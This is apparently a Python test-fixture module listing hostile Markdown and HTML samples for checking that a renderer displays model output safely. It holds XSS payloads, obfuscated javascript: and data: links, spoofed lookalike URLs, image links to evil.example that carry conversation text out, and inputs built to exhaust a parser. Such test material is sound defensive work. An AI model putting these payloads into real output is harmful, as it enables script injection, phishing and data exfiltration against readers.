"""What a model may write, or be made to write, against whoever reads it: names, and Markdown.

Each is to be shown without a script's running, a host's being called, a frame's being frozen, or a
link's leading anywhere but by http, https or mailto. A script that does run calls `pwned()`.
"""

EVIL = "https://evil.example"
BANG = "pwned()"


def nested(opening: str, closing: str, depth: int, core: str = "x") -> str:
    return opening * depth + core + closing * depth


def table(rows: int, columns: int) -> str:
    def line(cell: str) -> str:
        return "|" + f" {cell} |" * columns + "\n"

    return line("head") + line("---") + "".join(line(f"cell {row}") for row in range(rows))


def links(*addresses: str) -> str:
    return "\n\n".join(f"[link {number}]({one})" for number, one in enumerate(addresses))


SAMPLES: dict[str, str] = {
    # HTML
    "a script": f"<script>{BANG}</script>\n\ntext <script src={EVIL}/x.js></script> text",
    "event handlers": f'<img src=x onerror="{BANG}"> <body onload={BANG}> <a onclick={BANG}>a</a>',
    "an svg": f"<svg onload={BANG}><script>{BANG}</script><animate onbegin={BANG} /></svg>",
    "tags in disguise": f"<sCrIpT>{BANG}</ScRiPt> <img/src=x/onerror={BANG}> <<script>{BANG}//<",
    "a tag cut in half": f"text <img src=x onerror={BANG} ",
    "frames and objects": (
        f'<iframe src="{EVIL}"></iframe>\n<object data="{EVIL}"></object>\n'
        f'<embed src="{EVIL}"><iframe srcdoc="<script>parent.{BANG}</script>"></iframe>'
    ),
    "a form": (
        f'<form action="{EVIL}"><input name="password" autofocus onfocus={BANG}>'
        '<button formaction="javascript:pwned()">Sign in</button></form>'
    ),
    "styles": f"<style>@import url({EVIL}/x.css); * {{ display: none }}</style>\n\n<p style='x'>",
    "a refresh, a base and a link": (
        f'<meta http-equiv="refresh" content="0; url={EVIL}"><base href="{EVIL}">'
        f'<link rel="stylesheet" href="{EVIL}/x.css">'
    ),
    "comments and what is no comment": f"<!-- <img src=x onerror={BANG}> -->\n\n<!--> {BANG} -->",
    "details, templates and maths that change how HTML is read": (
        f"<details open ontoggle={BANG}><template><img src=x onerror={BANG}></template></details>"
        f"<math><mtext><table><mglyph><style><img src=x onerror={BANG}></style></mglyph></table>"
    ),
    "entities": (
        "&lt;script&gt;pwned()&lt;/script&gt; &#60;img src=x onerror=pwned()&#62; &#0; &zz;"
    ),
    # addresses
    "javascript links": links(
        "javascript:pwned()",
        "JaVaScRiPt:pwned()",
        "<java\tscript:pwned()>",
        "&#106;avascript:pwned()",
        "javascript&colon;pwned()",
        "\\javascript:pwned()",
        "\x01javascript:pwned()",
        "javascript://example.com/%0apwned()",
        "//javascript:pwned()",
        "vbscript:msgbox(1)",
        "view-source:javascript:pwned()",
    ),
    "javascript by reference": "[a][x] [x] ![b][x]\n\n[x]: javascript:pwned() 'title'",
    "javascript in angle brackets": "<javascript:pwned()> <data:text/html,x> <JAVASCRIPT:pwned()>",
    "data addresses": links(
        "data:text/html,<script>pwned()</script>",
        "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
        "data:image/svg+xml,<svg/onload=pwned()>",
    )
    + "\n\n![x](data:image/svg+xml,<svg/onload=pwned()>)",
    "other schemes": links(
        "file:///etc/passwd", "blob:https://x/y", "intent://x#Intent;end", "x:y"
    ),
    "addresses that seem to be others": links(
        "https://accounts.google.com@evil.example/",
        "https://accounts.google.com%2F@evil.example/",
        "https:\\\\evil.example",
        "//evil.example",
        "https:evil.example",
        "https://evil.example\\@google.com",
        "https://g\u043e\u043egle.com/",
        "https://example.com/\u202egnp.exe",
    ),
    "relative addresses": links("/api/v1/auth/logout", "#x", "?a=b", "../admin", "."),
    "titles and quotes that break out": (
        '[a](https://example.com "x\\" onmouseover=\\"pwned()") '
        "[b](https://example.com/'onmouseover='pwned()) "
        '[c](<https://example.com/"><img src=x onerror=pwned()>>)'
    ),
    "automatic links with tricks": (
        'https://example.com/<script>pwned()</script> www.example.com/"onmouseover=pwned() '
        "http://user:word@evil.example ftp://evil.example mailto:a@b.example?body=x a@b.example "
        "xmpp:a@b.example https://evil.example/?q=)](javascript:pwned())"
    ),
    "links in links": "[a [b](https://b.example) ![c](https://c.example/c.png)](https://a.example)",
    "images that carry words away": (
        f"![a]({EVIL}/a.png?secret=what+was+said) ![b]({EVIL}/b.svg#x) "
        "![c](//evil.example/c.png)\n\n"
        f"[![d]({EVIL}/d.png)]({EVIL}/d)\n\n![]({EVIL})\n\n![e][r]\n\n[r]: {EVIL}/e.png?q=1"
    ),
    # what is not closed
    "fences that nothing closes": "```js\npwned()\n\n~~~\n</script>",
    "marks that nothing closes": "**a *b _c ~~d `e [f](g ![h](i <j $k $$l \\(m \\[n",
    "a fence in a list in a quote": "> - a\n>   ```html\n>   <script>pwned()</script>\n\nout",
    "maths that nothing closes": "$$\n\\frac{1}{2}\n\n" + "text\n\n" * 50,
    "names that objects have, as languages": "".join(
        f"```{name}\nx\n```\n\n"
        for name in ("__proto__", "constructor", "toString", "hasOwnProperty", "valueOf", "<b>x")
    ),
    "names that objects have, as labels": (
        "[__proto__] [constructor][toString] [valueOf]\n\n[__proto__]: https://example.com\n"
    ),
    "a language in disguise": (
        '```js"onload="pwned()\nx\n```\n\n``` <script>pwned()</script>\nx\n```'
    ),
    "mermaid": f'```mermaid\ngraph TD\nA["<img src=x onerror={BANG}>"]\nclick A "{EVIL}"\n```',
    # size and depth
    "a table of 5,000 rows": table(5_000, 4),
    "a table of 200 columns": table(20, 200),
    "quotes in quotes": "> " * 1_000 + "x",
    "lists in lists": "\n".join("  " * depth + "- x" for depth in range(200)),
    "lists in a line": "- " * 1_000 + "x",
    "brackets in brackets": nested("[", "](https://example.com)", 1_000),
    "emphasis in emphasis": nested("*a **b ", " b** a*", 1_000),
    "10,000 of a mark": "\n\n".join(mark * 10_000 for mark in "*_[`~<$!&|"),
    "a line of 200 kB": "word " * 40_000,
    "a line of 200 kB without a space": "a" * 200_000,
    "a block of code of 5,000 lines": "```python\n" + "print('x')  # y\n" * 5_000 + "```\n",
    "10,000 paragraphs": "A *short* one.\n\n" * 10_000,
    "what looks like a beginning, again and again": "\n\n".join(
        ("a@" * 20_000, "[a](" * 5_000, "*a_b " * 3_000, "[a][" * 5_000, "<a " * 5_000)
    ),
    # formulas
    "formulas without an end": "$\\def\\a{\\a\\a}\\a$ and $\\newcommand{\\b}{\\b x}\\b$",
    "formulas that are huge": "$\\rule{9999em}{9999em}$ $\\hspace{9999em}x$ $$\\Huge\\Huge x$$",
    "formulas in formulas": "\n\n".join(
        ("$$" + nested("\\frac{1}{", "}", 300) + "$$", "$$" + nested("{", "}", 900) + "$$")
    ),
    "formulas that grow": (
        "$$\\def\\a#1{\\frac{1}{\\frac{1}{\\frac{1}{\\frac{1}{#1}}}}}"
        + nested("\\a{", "}", 25)
        + "$$\n\n$$\\left("
        + "\\left(" * 200
        + "x"
        + "\\right)" * 201
        + "$$"
    ),
    "a matrix of 1,000 cells": (
        "$$\\begin{matrix}" + ("a & b & c & d \\\\ " * 250) + "\\end{matrix}$$"
    ),
    "formulas that link or style": (
        "$\\href{javascript:pwned()}{x}$ $\\url{javascript:pwned()}$ "
        "$\\htmlStyle{position:fixed}{x}$ "
        f"$\\includegraphics{{{EVIL}/x.png}}$ $\\htmlData{{onclick=pwned()}}{{x}}$ "
        "$\\text{<img src=x onerror=pwned()>}$"
    ),
    "formulas that are prices": "It costs $5, or $10 for two; $HOME and US$ 3$.",
    # characters
    "marks on marks": "Z" + "\u0351\u0363\u0345" * 500 + "algo",
    "text that turns": (
        "user\u202e)gnp.exe\u202c and \u2066isolated\u2067 \u200f\u200e `\u202ecode\u202c`"
    ),
    "characters that cannot be seen": (
        "a\u0000b\u2028c\u2029d\ufeffe\u200bf\u0007g\u001b[31mh\r\ni\rj"
    ),
    "right to left": "مرحبا **بالعالم** `code` 123\n\n- שלום\n\n| א | b |\n|---|---|\n| 1 | ב |",
    "faces": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 e\u0301",
}
